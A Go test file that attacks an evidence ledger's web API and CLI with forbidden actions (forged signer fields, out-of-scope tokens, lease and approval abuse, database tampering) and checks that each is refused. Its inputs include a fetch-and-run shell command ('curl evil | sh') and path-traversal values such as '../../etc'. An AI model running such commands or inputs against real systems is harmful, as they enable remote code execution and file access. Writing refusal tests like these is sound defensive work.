package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/evidence-ledger/ledger/admit"
	"github.com/evidence-ledger/ledger/ledger"
	"github.com/evidence-ledger/ledger/ledger/sqlite"
	"github.com/evidence-ledger/ledger/runs"
	"github.com/evidence-ledger/ledger/verify"
	"github.com/evidence-ledger/ledger/web"
)

// admEnv is the admission table's world: a real web server over HTTP on
// a real SQLite store with the runs service,
// the tokens of every actor, an approved agent's key, and a local SQLite
// database the CLI's --db commands use.
type admEnv struct {
	t                                  *testing.T
	url                                string
	st                                 *sqlite.Store
	admin, record, scoped, read, runTk string // token secrets
	reviewer                           string // a record token with the manual gate's role
	agent                              ed25519.PrivateKey
	db                                 string // the local database of `ledger --db`
	dir                                string
}

func newAdmEnv(t *testing.T) *admEnv {
	t.Helper()
	ctx := context.Background()
	path := filepath.Join(t.TempDir(), "api.db")
	st, err := sqlite.Open(ctx, sqlite.Options{Path: path})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	aux, err := sqlite.OpenAux(path)
	if err != nil {
		t.Fatal(err)
	}
	rs := runs.New(aux, nil)
	t.Cleanup(func() { rs.Close() })
	srv, err := web.New(web.Config{Store: st, Runs: rs, Log: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewServer(srv)
	t.Cleanup(hs.Close)
	e := &admEnv{t: t, url: hs.URL, st: st, dir: t.TempDir()}
	mk := func(spec ledger.TokenSpec) string {
		secret, _, err := st.CreateScopedToken(ctx, spec)
		if err != nil {
			t.Fatal(err)
		}
		return secret
	}
	e.admin = mk(ledger.TokenSpec{Name: "ops", Scope: ledger.ScopeAdmin})
	e.record = mk(ledger.TokenSpec{Name: "ci", Scope: ledger.ScopeRecord})
	e.scoped = mk(ledger.TokenSpec{Name: "ci-core-cpu", Scope: ledger.ScopeRecord, Repositories: []string{"example/core"}, Lanes: []string{"qmv-bias-sum/v1"}, Backends: []ledger.Backend{"cpu"}})
	e.read = mk(ledger.TokenSpec{Name: "reviewer", Scope: ledger.ScopeRead})
	e.runTk = mk(ledger.TokenSpec{Name: "queue", Scope: ledger.ScopeRun})
	e.reviewer = mk(ledger.TokenSpec{Name: "platform", Scope: ledger.ScopeRecord, Roles: []string{"platform-reviewer"}})
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	e.agent = priv
	if _, _, err := admit.AddKey(ctx, st, "h100-a", []byte(verify.AuthorizedKey(pub)), "ops", ledger.RunnerKindAgent, "", nil); err != nil {
		t.Fatal(err)
	}
	policy := web.ApplyPolicyRequest{Name: "lenient", Policy: "version: 1\nrules:\n  - repositories: [\"github.com/example/core\"]\n    refs: [\"refs/heads/*\"]\n    schemes: [ssh]\n    ssh:\n      allowed_signers: signers\n",
		Files: map[string][]byte{"signers": []byte("bot " + verify.AuthorizedKey(pub) + "\n")}}
	e.ok("register a policy", "POST", "/api/v1/policies", e.admin, "application/json", jsonOf(t, policy))
	e.db = filepath.Join(e.dir, "local.db")
	e.cli(0, "", "--db", e.db, "token", "create", "--name", "rm", "--scope", "admin")
	e.cli(0, "", "--db", e.db, "token", "create", "--name", "reader", "--scope", "read")
	return e
}

// size is the API log's size.
func (e *admEnv) size() uint64 {
	e.t.Helper()
	cp, err := e.st.Checkpoint(context.Background())
	if err != nil {
		e.t.Fatal(err)
	}
	return cp.Size
}

// localSize is the local database's log size.
func (e *admEnv) localSize() uint64 { e.t.Helper(); return logSize(e.t, e.db) }

// do sends one request and returns its status and body.
func (e *admEnv) do(method, path, token, contentType string, body []byte) (int, string) {
	e.t.Helper()
	req, err := http.NewRequest(method, e.url+path, bytes.NewReader(body))
	if err != nil {
		e.t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// refused sends a request that must be refused with status want (and, if
// field is not "", name field), appending nothing to the API's log.
func (e *admEnv) refused(what string, want int, field, method, path, token, contentType string, body []byte) {
	e.t.Helper()
	before := e.size()
	code, out := e.do(method, path, token, contentType, body)
	var got web.APIError
	json.Unmarshal([]byte(out), &got)
	if code != want || (field != "" && got.Field != field) {
		e.t.Errorf("API %s: %d %s, want %d naming %q", what, code, out, want, field)
	}
	if after := e.size(); after != before {
		e.t.Errorf("API %s: the log grew from %d to %d", what, before, after)
	}
}

// ok sends a request that must succeed (a 2xx).
func (e *admEnv) ok(what, method, path, token, contentType string, body []byte) string {
	e.t.Helper()
	code, out := e.do(method, path, token, contentType, body)
	if code/100 != 2 {
		e.t.Fatalf("API %s: %d %s", what, code, out)
	}
	return out
}

// cli runs the ledger binary and wants exit code want; it returns stdout
// and stderr together.
func (e *admEnv) cli(want int, stdin string, args ...string) string {
	e.t.Helper()
	so, se, code := runBin(e.t, stdin, args...)
	if code != want {
		e.t.Errorf("ledger %v: exit %d, want %d\n%s%s", args, code, want, so, se)
	}
	return so + se
}

// cliRefused runs a CLI command that must fail (exit 2) naming every
// want, against the server (--server) or the local database, appending
// nothing to either.
func (e *admEnv) cliRefused(what, stdin string, want []string, args ...string) {
	e.t.Helper()
	before, beforeLocal := e.size(), e.localSize()
	out := e.cli(2, stdin, args...)
	for _, w := range want {
		if !strings.Contains(out, w) {
			e.t.Errorf("CLI %s: output lacks %q: %s", what, w, out)
		}
	}
	if e.size() != before || e.localSize() != beforeLocal {
		e.t.Errorf("CLI %s: a log grew", what)
	}
}

// remote is the global flags of a CLI command through the API with token.
func (e *admEnv) remote(token string, args ...string) []string {
	return append([]string{"--server", e.url, "--token", token}, args...)
}

// local is the global flags of a CLI command on the local database.
func (e *admEnv) local(args ...string) []string { return append([]string{"--db", e.db}, args...) }

// admEvidence is a passing record of lane on backend about example/core at
// commit, finished at the given offset from now.
func admEvidence(lane, backend, commit string, status string, at time.Duration) map[string]any {
	t := time.Now().UTC().Add(at).Truncate(time.Second)
	return map[string]any{
		"lane": lane, "backend": backend, "cases_exact": 216, "cases_total": 216, "control": "caught", "status": status,
		"subject":    map[string]any{"repository": "example/core", "commit": commit, "tree": strings.Repeat("c", 40)},
		"started_at": t.Add(-time.Second).Format(time.RFC3339), "finished_at": t.Format(time.RFC3339),
	}
}

func jsonOf(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// with is ev with member name set to value.
func with(ev map[string]any, name string, value any) map[string]any {
	c := map[string]any{}
	for k, v := range ev {
		c[k] = v
	}
	c[name] = value
	return c
}

// admissionRow is one row of TRUST.md's actor table as the admission
// table test tries it: api attacks through the real API; cli attacks
// through the real binary, or noCLI says why the CLI cannot express the
// attack. covered names, for a row whose attack needs a whole scenario of
// its own (a log edited under a stopped server, a witness), the tests
// that try it, as "file:TestName"; the table checks they exist.
type admissionRow struct {
	rule    admit.RuleID
	api     func(e *admEnv)
	cli     func(e *admEnv)
	noCLI   string
	noAPI   string
	covered []string
}

var head = strings.Repeat("a", 40)

var admissionRows = []admissionRow{
	{rule: admit.CIPolicy,
		api: func(e *admEnv) {
			e.refused("a policy file path", 400, "policy_path", "POST", "/api/v1/heads/verify", e.record, "application/json",
				[]byte(`{"repository":"example/core","policy_path":"/etc/ledger/policy.yaml","objects":[]}`))
			e.refused("a registered policy beside the release's", 400, "policy", "POST", "/api/v1/heads/verify", e.record, "application/json",
				[]byte(`{"release":"3.1.0","policy":"lenient","objects":[]}`))
		},
		cli: func(e *admEnv) {
			repo := e.gitRepo()
			e.cliRefused("--policy-name beside --release", "", []string{"policy"},
				e.remote(e.record, "verify", "head", "--repo", repo, "--ref", "refs/heads/main", "--release", "3.1.0", "--policy-name", "lenient")...)
		}},
	{rule: admit.CIClaim,
		api: func(e *admEnv) {
			ev := admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0)
			forged := with(ev, "details", map[string]any{ledger.ComputedByField: "server"})
			e.refused("a server marker", 400, "details.computed_by", "POST", "/api/v1/evidence", e.record, "application/json", jsonOf(e.t, forged))
			e.refused("a signer it did not verify", 400, "signer", "POST", "/api/v1/evidence", e.record, "application/json",
				jsonOf(e.t, with(ev, ledger.SignerField, map[string]any{"runner": "ci", "key_id": "SHA256:x"})))
			e.refused("its own recorded_by", 400, "recorded_by", "POST", "/api/v1/evidence", e.record, "application/json",
				jsonOf(e.t, with(ev, ledger.RecordedByField, map[string]any{"token": map[string]any{"id": "tok_0123456789ab", "name": "ops"}})))
		},
		cli: func(e *admEnv) {
			ev := admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0)
			forged := string(jsonOf(e.t, with(ev, "details", map[string]any{ledger.ComputedByField: "server"})))
			e.cliRefused("record --db, a server marker", forged, []string{"details.computed_by"}, e.local("record", "-")...)
			e.cliRefused("record --server, a server marker", forged, []string{"details.computed_by"}, e.remote(e.record, "record", "-")...)
			e.cliRefused("record --db, recorded_by", string(jsonOf(e.t, with(ev, ledger.RecordedByField, map[string]any{"token": map[string]any{"id": "tok_0123456789ab", "name": "ops"}}))),
				[]string{"recorded_by"}, e.local("record", "-")...)
		}},
	{rule: admit.CIScope,
		api: func(e *admEnv) {
			e.refused("another lane", 403, "lane", "POST", "/api/v1/evidence", e.scoped, "application/json",
				jsonOf(e.t, admEvidence("alloc-footprint/v1", "cpu", head, "passed", 0)))
			e.refused("another backend, in an array", 403, "[1].backend", "POST", "/api/v1/evidence", e.scoped, "application/json",
				jsonOf(e.t, []any{admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0), admEvidence("qmv-bias-sum/v1", "cuda", head, "passed", 0)}))
			e.refused("a run of another lane", 403, "lanes[0]", "POST", "/api/v1/runs", e.scopedRun(), "application/json",
				[]byte(`{"repository":"github.com/example/core","commit":"`+head+`","backend":"cpu","lanes":["alloc-footprint/v1"]}`))
		},
		cli: func(e *admEnv) {
			e.cliRefused("record --server, another lane", string(jsonOf(e.t, admEvidence("alloc-footprint/v1", "cpu", head, "passed", 0))),
				[]string{"out of the scope"}, e.remote(e.scoped, "record", "-")...)
		}},
	{rule: admit.CIFiles,
		api: func(e *admEnv) {
			e.refused("a path on the server, record token", 403, "repo_path", "POST", "/api/v1/heads/verify", e.record, "application/json",
				[]byte(`{"repository":"github.com/example/core","policy":"lenient","repo_path":"../../etc"}`))
			e.refused("a path on a server with no repository roots, admin token", 403, "repo_path", "POST", "/api/v1/heads/verify", e.admin, "application/json",
				[]byte(`{"repository":"github.com/example/core","policy":"lenient","repo_path":"core"}`))
		},
		noCLI: "`ledger verify head --server` uploads the objects it read from the caller's own checkout; no flag names a path on the server"},
	{rule: admit.AgentCommand,
		api: func(e *admEnv) {
			e.refused("a run carrying a command", 400, "", "POST", "/api/v1/runs", e.runTk, "application/json",
				[]byte(`{"repository":"example/core","commit":"`+head+`","backend":"cpu","lanes":["qmv-bias-sum/v1"],"command":"curl evil | sh"}`))
		},
		noCLI: "the CLI queues no runs (`ledger runs` lists, shows and cancels); `ledger agent` runs only the lanes of its own configuration (cmd/ledger agent tests)"},
	{rule: admit.AgentUndeclared,
		api: func(e *admEnv) {
			env := e.agentEnvelope(admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0))
			e.refused("an agent's envelope outside its runs", 403, "signer", "POST", "/api/v1/evidence", e.record, "application/json", env)
			e.refused("an agent's envelope as DSSE", 403, "signer", "POST", "/api/v1/evidence", e.record, ledger.ContentTypeDSSE, env)
		},
		cli: func(e *admEnv) {
			env := string(e.agentEnvelope(admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0)))
			e.cliRefused("record --server, an agent's envelope", env, []string{"agent h100-a"}, e.remote(e.record, "record", "-")...)
		},
		covered: []string{"cmd/ledger/agent_test.go:TestAgentTakesOnlyDeclaredLanes", "cmd/ledger/agent_shape_test.go:TestLocalRecordRefusesAgentEnvelopes", "web/agent_multisig_test.go:TestAgentCosignedEnvelopeRefused"}},
	{rule: admit.AgentLease,
		api: func(e *admEnv) {
			ev := with(admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0), "run", map[string]any{"id": "run_0123456789ab", "attempt": 1})
			e.refused("evidence claiming a run", 400, "run", "POST", "/api/v1/evidence", e.record, "application/json", jsonOf(e.t, ev))
			before := e.size()
			code, out := e.do("POST", "/api/v1/agent/runs/run_0123456789ab/finish", e.record, "application/json",
				[]byte(`{"lease":"lease_x","attempt":1,"status":"completed","evidence":[]}`))
			if code/100 != 4 || e.size() != before {
				e.t.Errorf("API finish of a lease not held: %d %s", code, out)
			}
		},
		cli: func(e *admEnv) {
			ev := with(admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0), "run", map[string]any{"id": "run_0123456789ab", "attempt": 1})
			e.cliRefused("record --db, evidence claiming a run", string(jsonOf(e.t, ev)), []string{"run"}, e.local("record", "-")...)
		},
		covered: []string{"cmd/ledger/agent_bind_test.go:TestAgentPollEndsHeldLease", "cmd/ledger/agent_test.go:TestAgentKilledLeaseExpiresSecondAgentFinishes"}},
	{rule: admit.ReviewerChange,
		api: func(e *admEnv) {
			ev := jsonOf(e.t, admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0))
			e.refused("evidence with a read token", 403, "", "POST", "/api/v1/evidence", e.read, "application/json", ev)
			e.refused("evidence without a token", 401, "", "POST", "/api/v1/evidence", "", "application/json", ev)
			e.refused("a release with a read token", 403, "", "PUT", "/api/v1/releases/9.9.9", e.read, "application/yaml", []byte(releaseCLIYAML))
			e.refused("an approval with a read token", 403, "", "POST", "/api/v1/releases/3.1.0/approvals", e.read, "application/json", []byte(`{}`))
			e.refused("a runner key with a read token", 403, "", "POST", "/api/v1/runners", e.read, "application/json", []byte(`{"name":"x","public_key":"ssh-ed25519 AAAA"}`))
			e.refused("a policy with a read token", 403, "", "POST", "/api/v1/policies", e.read, "application/json", []byte(`{}`))
		},
		cli: func(e *admEnv) {
			e.cliRefused("record --server with a read token", string(jsonOf(e.t, admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0))),
				[]string{"this request needs"}, e.remote(e.read, "record", "-")...)
			e.cliRefused("release approve --db --as a reader", "", []string{"this needs"}, e.local("release", "approve", "3.1.0", "--as", "reader")...)
		}},
	{rule: admit.ManagerNotReady,
		api: func(e *admEnv) {
			e.refused("approve with the manual gate open", 409, "", "POST", "/api/v1/releases/3.1.0/approvals", e.admin, "application/json", []byte(`{}`))
		},
		cli: func(e *admEnv) {
			before, beforeLocal := e.size(), e.localSize()
			for _, args := range [][]string{e.remote(e.admin, "release", "approve", "3.1.0"), e.local("release", "approve", "3.1.0", "--as", "rm")} {
				if out := e.cli(1, "", args...); !strings.Contains(out, "is not ready") {
					e.t.Errorf("CLI release approve: %s", out)
				}
			}
			if e.size() != before || e.localSize() != beforeLocal {
				e.t.Error("CLI release approve of a release not ready: a log grew")
			}
		}},
	{rule: admit.ManagerStale,
		api: func(e *admEnv) {
			e.ok("sign off", "POST", "/api/v1/releases/3.1.0/signoffs", e.reviewer, "application/json", []byte(`{"gate":"platform"}`))
			e.ok("approve", "POST", "/api/v1/releases/3.1.0/approvals", e.admin, "application/json", []byte(`{}`))
			if !e.approved() {
				e.t.Fatal("readiness after the approval: not approved")
			}
			e.ok("a failing record", "POST", "/api/v1/evidence", e.record, "application/json", jsonOf(e.t, admEvidence("qmv-bias-sum/v1", "cpu", head, "failed", time.Second)))
			if e.approved() {
				e.t.Error("the approval outlived the verdict it approved")
			}
		},
		cli: func(e *admEnv) {
			out := e.cli(1, "", e.remote(e.read, "--json", "release", "check", "3.1.0")...)
			var v struct {
				Readiness struct {
					Approved bool `json:"approved"`
				} `json:"readiness"`
			}
			if json.Unmarshal([]byte(out), &v) != nil || v.Readiness.Approved {
				e.t.Errorf("CLI release check shows the stale approval alive: %s", out)
			}
		}},
	{rule: admit.AdminEditLeaf,
		api: func(e *admEnv) {
			for _, m := range []string{"PUT", "PATCH", "DELETE"} {
				if code, out := e.do(m, "/api/v1/log/leaves/0", e.admin, "application/json", []byte(`{}`)); code != 405 && code != 404 {
					e.t.Errorf("API %s of a leaf: %d %s", m, code, out)
				}
			}
		},
		cli: func(e *admEnv) {
			db := filepath.Join(e.dir, "edited", "ledger.db")
			os.MkdirAll(filepath.Dir(db), 0o755)
			for i := range 3 {
				e.cli(0, string(jsonOf(e.t, admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", time.Duration(i)*time.Second))), "--db", db, "record", "-")
			}
			sqlExec(e.t, db, "UPDATE leaves SET leaf = CAST(replace(CAST(leaf AS TEXT), 'passed', 'passex') AS BLOB) WHERE idx = 1")
			auditFails(e.t, db, nil, "1")
		},
		covered: []string{"cmd/ledger/audit_test.go:TestAuditCLINamesTamperedIndex", "cmd/ledger/integrity_test.go:TestIntegrityAttacks"}},
	{rule: admit.OperatorRollback,
		noAPI:   "a rollback is an edit of the database under the server, not a request; the API serves the checkpoints clients and witnesses keep",
		noCLI:   "tried by the covering tests with the real binary (a truncated copy, several servers restored)",
		covered: []string{"cmd/ledger/integrity_test.go:TestIntegrityAttacks", "cmd/ledger/multiserver_restore_test.go:TestMultiServerRestoreNoFork", "ledger/sqlite/rollback_test.go:TestRollbackUnderRunningStoreRefused"}},
	{rule: admit.OperatorProjection,
		noAPI:   "a projection edit is raw SQL under the server, not a request",
		noCLI:   "tried by the covering tests with the real binary (raw SQL, then `ledger serve` and `release check`)",
		covered: []string{"cmd/ledger/projection_verdict_test.go:TestNoVerdictOnEditedProjection", "cmd/ledger/fullscan_test.go:TestFullScanCatchesProjectionEdit"}},
	{rule: admit.WitnessFork,
		noAPI:   "the witness is its own service: the ledger asks it to cosign, and it refuses what does not extend its last checkpoint",
		noCLI:   "tried by the covering tests (`ledger audit --against` with a witnessed checkpoint; the litewitness refusing a fork)",
		covered: []string{"witness/litewitness_test.go:TestLitewitnessRefusesForkAndRollback", "cmd/ledger/witness_test.go:TestWitnessedServeProofAndAuditAgainst"}},
}

// approved reports whether release 3.1.0's readiness, over the API,
// holds a current approval.
func (e *admEnv) approved() bool {
	e.t.Helper()
	var v struct {
		Readiness struct {
			Approved bool `json:"approved"`
		} `json:"readiness"`
	}
	out := e.ok("readiness", "GET", "/api/v1/releases/3.1.0/readiness", "", "", nil)
	if err := json.Unmarshal([]byte(out), &v); err != nil {
		e.t.Fatalf("readiness: %v: %s", err, out)
	}
	return v.Readiness.Approved
}

// scopedRun is a run token scoped to github.com/example/core, lane qmv-bias-sum/v1,
// backend cpu (made on first use).
func (e *admEnv) scopedRun() string {
	e.t.Helper()
	secret, _, err := e.st.CreateScopedToken(context.Background(), ledger.TokenSpec{Name: fmt.Sprintf("queue-core-%d", time.Now().UnixNano()), Scope: ledger.ScopeRun,
		Repositories: []string{"github.com/example/core"}, Lanes: []string{"qmv-bias-sum/v1"}, Backends: []ledger.Backend{"cpu"}})
	if err != nil {
		e.t.Fatal(err)
	}
	return secret
}

// agentEnvelope is ev signed into a DSSE envelope by the approved agent's
// key.
func (e *admEnv) agentEnvelope(ev map[string]any) []byte {
	e.t.Helper()
	env, err := verify.SignEvidence(context.Background(), e.agent, jsonOf(e.t, ev))
	if err != nil {
		e.t.Fatal(err)
	}
	return env
}

// gitRepo is a repository with one commit on main.
func (e *admEnv) gitRepo() string {
	e.t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		e.t.Skip("git not installed")
	}
	repo := filepath.Join(e.dir, "repo")
	os.MkdirAll(repo, 0o755)
	gitT(e.t, repo, "init", "-q", "-b", "main")
	os.WriteFile(filepath.Join(repo, "main.go"), []byte("package main\n"), 0o644)
	gitT(e.t, repo, "add", ".")
	gitT(e.t, repo, "commit", "-q", "-m", "one")
	return repo
}

// TestAdmissionTable tries every "must never" of TRUST.md's actor table
// (admit.Rules) through the real API and, where the CLI can express it,
// through the real binary, and fails if the forbidden thing works. Every
// rule has a row; every row tries the API and the CLI or says why not;
// every covering test it names exists.
func TestAdmissionTable(t *testing.T) {
	rows := map[admit.RuleID]admissionRow{}
	for _, r := range admissionRows {
		rows[r.rule] = r
	}
	for _, rule := range admit.Rules {
		r, ok := rows[rule.ID]
		switch {
		case !ok:
			t.Errorf("rule %s (%s must never %s) has no row in the admission table", rule.ID, rule.Actor, rule.MustNot)
		case r.api == nil && r.noAPI == "":
			t.Errorf("rule %s: no API attack and no reason", rule.ID)
		case r.cli == nil && r.noCLI == "":
			t.Errorf("rule %s: no CLI attack and no reason", rule.ID)
		case r.api == nil && r.cli == nil && len(r.covered) == 0:
			t.Errorf("rule %s: tried nowhere", rule.ID)
		}
		for _, c := range r.covered {
			file, name, _ := strings.Cut(c, ":")
			src, err := os.ReadFile(filepath.Join("..", "..", file))
			if err != nil || !regexp.MustCompile(`(?m)^func `+regexp.QuoteMeta(name)+`\(t \*testing\.T\)`).Match(src) {
				t.Errorf("rule %s: covering test %s does not exist", rule.ID, c)
			}
		}
	}
	if len(rows) != len(admit.Rules) {
		t.Errorf("the admission table has %d rows for %d rules", len(rows), len(admit.Rules))
	}

	t.Run("TRUST.md", func(t *testing.T) { checkTrustRows(t) })

	e := newAdmEnv(t)
	// One release for the release rows: a lane gate the record below
	// passes and a manual gate (platform-reviewer) left open, on both logs.
	relFile := filepath.Join(e.dir, "release.yaml")
	os.WriteFile(relFile, []byte(releaseCLIYAML), 0o644)
	e.ok("define the release", "PUT", "/api/v1/releases/3.1.0", e.admin, "application/yaml", []byte(releaseCLIYAML))
	e.ok("a passing record", "POST", "/api/v1/evidence", e.record, "application/json", jsonOf(t, admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0)))
	e.cli(0, "", e.local("release", "apply", relFile)...)
	e.cli(0, string(jsonOf(t, admEvidence("qmv-bias-sum/v1", "cpu", head, "passed", 0))), e.local("record", "-")...)

	for _, r := range admissionRows {
		t.Run(string(r.rule), func(t *testing.T) {
			e.t = t
			if r.api != nil {
				r.api(e)
			}
			if r.cli != nil {
				r.cli(e)
			}
		})
	}
}

// trustMD is TRUST.md beside the repository (../shared/TRUST.md from its
// root), or the file LEDGER_TRUST_MD names.
func trustMD() string {
	if p := os.Getenv("LEDGER_TRUST_MD"); p != "" {
		return p
	}
	return filepath.Join("..", "..", "..", "shared", "TRUST.md")
}

// checkTrustRows parses TRUST.md's actor table and wants one rule of
// admit.Rules for every clause of its "must never be able to" column, and
// no rule TRUST.md does not have.
func checkTrustRows(t *testing.T) {
	b, err := os.ReadFile(trustMD())
	if os.IsNotExist(err) {
		t.Skipf("%s is absent (TRUST.md lives beside the repository; set LEDGER_TRUST_MD to its path): the rules are not compared with it", trustMD())
	}
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{}
	inActors := false
	for _, line := range strings.Split(string(b), "\n") {
		switch {
		case strings.HasPrefix(line, "## "):
			inActors = strings.TrimSpace(line) == "## Actors"
			continue
		case !inActors || !strings.HasPrefix(line, "|"):
			continue
		}
		cols := strings.Split(strings.Trim(strings.TrimSpace(line), "|"), "|")
		if len(cols) != 4 {
			t.Fatalf("TRUST.md: an actor row without 4 columns: %s", line)
		}
		actor, mustNot := strings.TrimSpace(cols[0]), strings.TrimSpace(cols[3])
		if actor == "actor" || strings.Trim(actor, "-") == "" {
			continue // the header and its rule
		}
		for _, clause := range strings.Split(mustNot, ";") {
			want[actor+" | "+strings.TrimSpace(clause)] = true
		}
	}
	if len(want) == 0 {
		t.Fatal("TRUST.md: no actor rows found under ## Actors")
	}
	have := map[string]bool{}
	for _, r := range admit.Rules {
		k := r.Actor + " | " + r.MustNot
		have[k] = true
		if !want[k] {
			t.Errorf("rule %s is not a clause of TRUST.md: %q", r.ID, k)
		}
	}
	for k := range want {
		if !have[k] {
			t.Errorf("TRUST.md's %q has no rule in admit.Rules (and so no row in the admission table)", k)
		}
	}
}
